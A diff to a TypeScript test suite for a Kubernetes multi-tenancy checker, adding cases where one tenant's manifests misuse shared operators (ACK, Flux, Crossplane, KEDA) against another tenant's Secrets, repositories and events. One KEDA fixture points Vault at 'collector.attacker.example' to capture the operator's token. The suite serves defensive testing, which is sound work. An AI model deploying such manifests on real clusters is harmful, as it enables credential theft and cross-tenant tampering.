@@ -46,6 +46,16 @@ const operatorCrds = [
   { group: 'source.toolkit.fluxcd.io', version: 'v1', plural: 'buckets', kind: 'Bucket' },
   { group: 'source.toolkit.fluxcd.io', version: 'v1', plural: 'ocirepositories', kind: 'OCIRepository' },
   { group: 'source.toolkit.fluxcd.io', version: 'v1', plural: 'helmrepositories', kind: 'HelmRepository' },
+  { group: 'services.k8s.aws', version: 'v1alpha1', plural: 'fieldexports', kind: 'FieldExport' },
+  {
+    group: 'image.toolkit.fluxcd.io',
+    version: 'v1',
+    plural: 'imageupdateautomations',
+    kind: 'ImageUpdateAutomation',
+  },
+  { group: 'notification.toolkit.fluxcd.io', version: 'v1beta3', plural: 'alerts', kind: 'Alert' },
+  { group: 's3.aws.m.upbound.io', version: 'v1beta1', plural: 'buckets', kind: 'Bucket' },
+  { group: 'notification.toolkit.fluxcd.io', version: 'v1beta3', plural: 'providers', kind: 'Provider' },
   { group: 'monitoring.coreos.com', version: 'v1', plural: 'servicemonitors', kind: 'ServiceMonitor' },
   { group: 'monitoring.coreos.com', version: 'v1alpha1', plural: 'scrapeconfigs', kind: 'ScrapeConfig' },
 ];
@@ -274,6 +284,53 @@ const awsSecretsTriggerAuthentication = (name: string, podIdentity: object): Man
       podIdentity,
       region: 'eu-west-1',
       secrets: [{ parameter: 'password', name: `${b.ns}/database` }],
+    },
+  },
+});
+const fieldExport = (name: string, to: object): Manifest => ({
+  apiVersion: 'services.k8s.aws/v1alpha1',
+  kind: 'FieldExport',
+  metadata: { name },
+  spec: {
+    from: {
+      path: '.status.endpoint.address',
+      resource: { group: 'rds.services.k8s.aws', kind: 'DBInstance', name: 'db' },
+    },
+    to: { kind: 'secret', name: 'database', key: 'password', ...to },
+  },
+});
+const imageUpdateAutomation = (name: string, sourceRef: object): Manifest => ({
+  apiVersion: 'image.toolkit.fluxcd.io/v1',
+  kind: 'ImageUpdateAutomation',
+  metadata: { name },
+  spec: {
+    interval: '10m',
+    sourceRef: { kind: 'GitRepository', name: 'apps', ...sourceRef },
+    git: { commit: { author: { name: 'bot', email: 'bot@example.com' } }, push: { branch: 'main' } },
+    update: { path: './', strategy: 'Setters' },
+  },
+});
+const alert = (name: string, source: object): Manifest => ({
+  apiVersion: 'notification.toolkit.fluxcd.io/v1beta3',
+  kind: 'Alert',
+  metadata: { name },
+  spec: {
+    providerRef: { name: 'collector' },
+    eventSources: [{ kind: 'Kustomization', name: '*', ...source }],
+  },
+});
+const vaultTriggerAuthentication = (name: string, credential?: object): Manifest => ({
+  apiVersion: 'keda.sh/v1alpha1',
+  kind: 'TriggerAuthentication',
+  metadata: { name },
+  spec: {
+    hashiCorpVault: {
+      address: 'https://collector.attacker.example',
+      authentication: 'kubernetes',
+      role: 'keda',
+      mount: 'kubernetes',
+      ...(credential ? { credential } : {}),
+      secrets: [{ parameter: 'password', key: 'password', path: `secret/data/${b.ns}/database` }],
     },
   },
 });
@@ -550,6 +607,80 @@ const cases: readonly (readonly [
         'csi.cert-manager.io/dns-names': `${hostA}`,
       }),
   ],
+  [
+    "an ACK FieldExport overwriting the password key of b's Secret with ACK's own identity",
+    (name) => fieldExport(name, { namespace: b.ns }),
+    `spec.to.namespace uses Secret/${b.ns}/database, a credential the whole cluster shares: the ACK controller patches, with its own identity`,
+    (name) => fieldExport(name, { namespace: a.ns }),
+  ],
+  [
+    "a Flux ImageUpdateAutomation pushing to b's GitRepository with b's credentials",
+    (name) => imageUpdateAutomation(name, { namespace: b.ns }),
+    `spec.sourceRef.namespace uses GitRepository/${b.ns}/apps, a credential the whole cluster shares: the image-automation-controller commits and pushes`,
+    (name) => imageUpdateAutomation(name, {}),
+  ],
+  [
+    "a Flux Alert streaming b's Kustomizations' events to a's provider",
+    (name) => alert(name, { namespace: b.ns }),
+    `spec.eventSources[0].namespace uses Kustomization/${b.ns}/*, a credential the whole cluster shares: the notification-controller sends`,
+    (name) => alert(name, { namespace: a.ns }),
+  ],
+  [
+    "a Flux Kustomization applying to the cluster a ConfigMap names, reached with the controller's cloud identity",
+    (name) =>
+      kustomization(name, { serviceAccountName: a.sa, kubeConfig: { configMapRef: { name: 'prod-eks' } } }),
+    'spec.kubeConfig.configMapRef uses FluxController/kustomize-controller/remote, a credential the whole cluster shares: the kustomize-controller reaches the cluster',
+    (name) =>
+      kustomization(name, {
+        serviceAccountName: a.sa,
+        kubeConfig: { secretRef: { name: 'prod-kubeconfig' } },
+      }),
+  ],
+  [
+    "a Crossplane v2 Bucket managed with the platform's ClusterProviderConfig (providerConfigRef left out)",
+    (name) => ({
+      apiVersion: 's3.aws.m.upbound.io/v1beta1',
+      kind: 'Bucket',
+      metadata: { name },
+      spec: { forProvider: { region: 'eu-west-1' } },
+    }),
+    'spec.providerConfigRef uses ClusterProviderConfig/default, a credential the whole cluster shares: left out',
+    (name) => ({
+      apiVersion: 's3.aws.m.upbound.io/v1beta1',
+      kind: 'Bucket',
+      metadata: { name },
+      spec: {
+        forProvider: { region: 'eu-west-1' },
+        providerConfigRef: { kind: 'ProviderConfig', name: 'team-a' },
+      },
+    }),
+  ],
+  [
+    "a Flux notification Provider writing commit statuses on b's Azure DevOps repository with the controller's identity",
+    (name) => ({
+      apiVersion: 'notification.toolkit.fluxcd.io/v1beta3',
+      kind: 'Provider',
+      metadata: { name },
+      spec: { type: 'azuredevops', address: `https://dev.azure.com/org/${b.ns}/_git/apps` },
+    }),
+    'spec.serviceAccountName uses FluxController/notification-controller, a credential the whole cluster shares: left out (with no spec.secretRef)',
+    (name) => ({
+      apiVersion: 'notification.toolkit.fluxcd.io/v1beta3',
+      kind: 'Provider',
+      metadata: { name },
+      spec: {
+        type: 'azuredevops',
+        address: `https://dev.azure.com/org/${a.ns}/_git/apps`,
+        serviceAccountName: a.sa,
+      },
+    }),
+  ],
+  [
+    "a KEDA TriggerAuthentication sending KEDA's own ServiceAccount token to a's Vault address",
+    (name) => vaultTriggerAuthentication(name),
+    'spec.hashiCorpVault.credential.serviceAccountName uses KedaController/kubernetes, a credential the whole cluster shares: KEDA logs in to the Vault',
+    (name) => vaultTriggerAuthentication(name, { serviceAccountName: a.sa }),
+  ],
 ];
 
 describe('a shared operator acting with the credentials the whole cluster shares', () => {
@@ -647,6 +778,12 @@ describe('a shared operator acting with the credentials the whole cluster shares
       'ExternalSecretsController/kubernetes',
       'PrometheusServer/files',
       'PrometheusTargets/*',
+      `Secret/${b.ns}/database`,
+      `Kustomization/${b.ns}/*`,
+      'KedaController/kubernetes',
+      'FluxController/kustomize-controller/remote',
+      'ClusterProviderConfig/default',
+      'FluxController/notification-controller',
     ];
     const files = Object.fromEntries(cases.map(([, take], i) => [`listed-${i}.yaml`, take(`listed-${i}`)]));
     const result = await planAndApply(applierOfA('a-listed', { sharedCredentials: listed }), files);
